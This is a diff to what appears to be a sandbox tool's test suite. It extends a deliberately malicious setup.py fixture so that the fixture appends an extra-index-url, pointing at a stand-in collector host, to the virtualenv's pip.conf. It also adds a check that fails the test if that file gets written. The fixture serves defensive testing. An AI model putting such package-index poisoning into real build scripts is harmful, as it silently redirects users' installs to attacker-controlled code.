@@ -105,6 +105,15 @@ for d in [os.environ.get("VIRTUAL_ENV", "") + "/..", "."]:
         os.chmod(os.path.join(hooks, "pre-commit"), 0o755)
     except OSError:
         pass
+# Name an index of ours in the virtualenv's own pip.conf, for the next run's allowlist.
+import sys
+for venv in {{sys.prefix, os.environ.get("VIRTUAL_ENV", "")}}:
+    if venv and os.path.exists(os.path.join(venv, "pyvenv.cfg")):
+        try:
+            with open(os.path.join(venv, "pip.conf"), "a") as f:
+                f.write("[global]\\nextra-index-url = http://{collector}:4444/simple\\n")
+        except OSError:
+            pass
 subprocess.Popen(["sh", "-c", "sleep 300", {mark!r}], start_new_session=True,
                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 from setuptools import setup
@@ -210,6 +219,7 @@ run_case() {
   [ "$(ls -A "$project/.git/hooks" | sort | sha256sum)" = "$hooks_before" ] ||
     fail "$name: .git/hooks changed: $(ls -A "$project/.git/hooks")"
   pgrep -f "$daemon_mark" >/dev/null && fail "$name: the daemon survived moat"
+  [ -e "$project/.venv/pip.conf" ] && fail "$name: the sdist wrote the virtualenv's pip.conf: $(cat "$project/.venv/pip.conf")"
   grep -q "CANARY" "$dir/out" "$dir/err" "$dir/audit.jsonl" && fail "$name: a secret leaked into the output"
   # In the account: the .pth is a finding, and the sdist's build is named.
   grep -q "evilwheel_hook.pth" "$dir/err" || fail "$name: the summary does not report the .pth with code"
